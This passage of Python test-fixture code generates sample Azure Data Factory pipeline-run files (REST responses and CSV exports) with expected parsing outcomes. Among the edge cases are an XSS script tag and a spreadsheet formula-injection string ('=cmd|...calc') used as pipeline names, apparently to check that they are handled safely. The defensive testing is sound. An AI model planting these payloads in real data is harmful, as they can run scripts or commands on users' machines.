    add(dumps({k.lower(): v for k, v in row(token()).items()}), NO_RUN_ID)  # lower-case keys: not these columns
    tok = token()
    add(dumps(row(tok))[:60], MALFORMED)
    tok = token()
    add(dumps(row(tok)) + dumps(row(tok + "x")), MALFORMED)  # two records run together
    files = []
    for part in range(3):
        chunk = lines[part::3]
        content = "".join(text + "\n" + ("\n" if i % 7 == 0 else "") for i, (text, _) in enumerate(chunk))
        records = [line for _, line in chunk]
        records += [_expect("", BLANK) for i in range(len(chunk)) if i % 7 == 0]
        files.append(FormatFile(f"la/y=2025/m=04/d=0{part + 6}/h=22/m=05/PT05M.json", content.encode(), tuple(records)))
    return files


def _rest_run(token: str, **fields: Any) -> dict[str, Any]:
    start = datetime(2025, 4, 7, 22, 10, tzinfo=UTC)
    base = {
        "id": f"{RESOURCE_ID}/pipelineruns/rest-{token}",
        "runId": f"rest-{token}",
        "runGroupId": f"rest-{token}",
        "pipelineName": "telephonie_master",
        "parameters": {"window_start": "2025-04-07"},
        "runStart": adf_time(start),
        "runEnd": adf_time(start + timedelta(minutes=8)),
        "durationInMs": 480_000,
        "status": "Succeeded",
        "message": "",
        "lastUpdated": adf_time(start + timedelta(minutes=8)),
    }
    base.update(fields)
    return {k: v for k, v in base.items() if v is not ...}


def rest_api_files() -> list[FormatFile]:
    """Saved queryPipelineRuns responses: one document per file, one record per run (or per unreadable file)."""
    files: list[FormatFile] = []

    def doc(name: str, body: Any, records: list[Line], text: str | None = None) -> None:
        content = text if text is not None else json.dumps(body, ensure_ascii=False, indent=1)
        files.append(FormatFile(f"rest/{name}/pipelineruns.json", content.encode("utf-8"), tuple(records)))

    runs = [
        _rest_run("c8000.0"),
        _rest_run("c8000.1", status="Canceled", runEnd=None, durationInMs=None),
        _rest_run("c8000.2", status="Failed", message="Operation on target Copy failed"),
        _rest_run("c8000.3", runStart=...),
        _rest_run("c8000.4", runEnd="2025-04-07T20:00:00Z"),
        _rest_run("c8000.5", status="Exploded"),
        _rest_run("c8000.6", pipelineName="<script>alert('rest')</script>"),
        _rest_run("c8000.7", runId=None),
    ]
    fates = [KEPT, KEPT, KEPT, NO_START, ENDS_BEFORE, unknown_status("Exploded"), KEPT, NO_RUN_ID]
    records = [_expect(f"c8000.{i}", fate, f"rest-c8000.{i}") for i, fate in enumerate(fates)]
    doc("page1", {"value": runs, "continuationToken": None}, records)
    doc("page2-same-run-again", {"value": [_rest_run("c8000.0")]}, [_expect("c8000.0", KEPT, "rest-c8000.0")])
    doc("empty-page", {"value": [], "continuationToken": None}, [])
    no_list = "not a queryPipelineRuns response (no 'value' list)"
    doc("value-null", {"value": None, "token": "c8001.0"}, [_expect("c8001.0", no_list)])
    doc("other-document", {"error": {"code": "c8002.0"}}, [_expect("c8002.0", no_list)])
    doc("not-json", None, [_expect("c8003.0", MALFORMED)], text="<html>c8003.0 502 Bad Gateway</html>")
    text = json.dumps({"value": [_rest_run("c8004.0")]})
    doc("truncated", None, [_expect("c8004.0", MALFORMED)], text=text[: len(text) // 2])
    doc("array", None, [_expect("c8005.0", MALFORMED)], text=json.dumps([_rest_run("c8005.0")]))
    doc("bad-element", {"value": [_rest_run("c8006.0"), "c8006.1"]}, [_expect("c8006.0", MALFORMED)])
    one = json.dumps({"value": [_rest_run("c8007.0")]})
    two = json.dumps({"value": [_rest_run("c8007.1")]})
    doc("two-documents", None, [_expect("c8007.0", MALFORMED)], text=one + "\n" + two)  # both runs kept aside
    doc("zero-bytes", None, [], text="")  # not even a record
    return files


CSV_HEADER = "PipelineName;StartTime;Status;EndTime;Duration;Error_msg"


def csv_files() -> list[FormatFile]:
    """The old report's CSV export: local times (Paris), SUCCESS/FAILURE, run ids derived from name and start."""

    def csv_row(token: str, *cells: str) -> str:
        return ";".join(cells).replace("TOKEN", token)

    rows = [
        (
            csv_row("", "telephonie_master", "08/04/2025 00:10:03", "SUCCESS", "08/04/2025 00:18:16", "493", "c7000.0"),
            KEPT,
        ),
        (
            csv_row(
                "",
                "solaris_a",
                "08/04/2025 01:00:00",
                "FAILURE",
                "08/04/2025 01:01:00",
                "60",
                '"Login failed; c7000.1 ""quoted""\nsecond line"',
            ),
            KEPT,
        ),
        (
            csv_row("", "solaris_b", "08/04/2025 01:00:00", "ABORTED", "08/04/2025 01:01:00", "60", "c7000.2"),
            unknown_status("ABORTED"),
        ),
        (csv_row("", "solaris_c", "2025-04-08 01:00", "SUCCESS", "08/04/2025 01:01:00", "60", "c7000.3"), NO_START),
        (csv_row("", "solaris_c", "", "SUCCESS", "08/04/2025 01:01:00", "60", "c7000.4"), NO_START),
        (csv_row("", "", "08/04/2025 01:00:00", "SUCCESS", "08/04/2025 01:01:00", "60", "c7000.5"), NO_PIPELINE),
        (
            csv_row("", "solaris_c", "08/04/2025 02:00:00", "SUCCESS", "08/04/2025 01:00:00", "0", "c7000.6"),
            ENDS_BEFORE,
        ),
        (
            csv_row("", "=cmd|' /C calc'!A0", "08/04/2025 03:00:00", "SUCCESS", "31/12/9999 23:59:59", "", "c7000.7"),
            KEPT,
        ),
        (csv_row("", "ragged_short", "08/04/2025 04:00:00", "SUCCESS"), KEPT),
        (
            csv_row(
                "",
                "ragged_long",
                "08/04/2025 04:00:00",
                "SUCCESS",
                "08/04/2025 04:01:00",
                "60",
                "c7000.9",
                "extra",
                "cells",
            ),
            KEPT,
        ),
    ]
    tokens = [
        "c7000.0",
        "c7000.1",
        "c7000.2",
        "c7000.3",
        "c7000.4",
        "c7000.5",
        "c7000.6",
        "c7000.7",
        "ragged_short;08/04/2025 04:00:00;SUCCESS;;;",
        "c7000.9",
    ]
    content = CSV_HEADER + "\n" + "\n".join(text for text, _ in rows) + "\n"
    records = tuple(_expect(token, fate) for token, (_, fate) in zip(tokens, rows, strict=True))
    files = [FormatFile("csv/ADF_logs_2025-04-08.csv", content.encode("utf-8"), records)]
    again = CSV_HEADER + "\n" + rows[0][0] + "\n"  # the same row in tomorrow's export: the same run
    files.append(FormatFile("csv/ADF_logs_2025-04-09.csv", again.encode(), (_expect("c7000.0", KEPT),)))
    bom = "\ufeff" + CSV_HEADER + "\nsitecom_master;08/04/2025 05:00:00;SUCCESS;08/04/2025 05:10:00;600;c7001.0\n"
    files.append(FormatFile("csv/excel-utf8-bom.csv", bom.encode("utf-8"), (_expect("c7001.0", KEPT),)))
    latin = CSV_HEADER + "\nTéléphonie;08/04/2025 05:00:00;SUCCESS;08/04/2025 05:10:00;600;c7002.0\n"
    files.append(FormatFile("csv/excel-ansi.csv", latin.encode("cp1252"), (_expect("c7002.0", NOT_UTF8),)))
    files.append(FormatFile("csv/header-only.csv", (CSV_HEADER + "\n").encode(), ()))
    files.append(FormatFile("csv/zero-bytes.csv", b"", ()))
    return files
